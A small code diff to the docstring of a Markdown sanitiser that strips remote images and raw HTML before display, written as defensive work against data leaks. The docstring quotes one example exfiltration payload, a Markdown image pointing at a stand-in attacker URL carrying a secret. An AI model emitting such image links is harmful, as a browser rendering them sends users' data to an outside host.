@@ -1,6 +1,6 @@
 """The last line of defence before Markdown reaches a renderer: no remote images, no raw HTML.
 
-Tools escape what they read from the database (toolkits/postgres/render.py ``md_text``); an LLM's
+The renderer escapes what tools read from the database (agent/render.py ``md_text``); an LLM's
 answer or a stored message may still carry ``![x](http://attacker/?c=secret)`` (a browser fetches it
 on display: data leaves by image) or an HTML tag. ``safe_markdown`` neutralises both outside code:
 
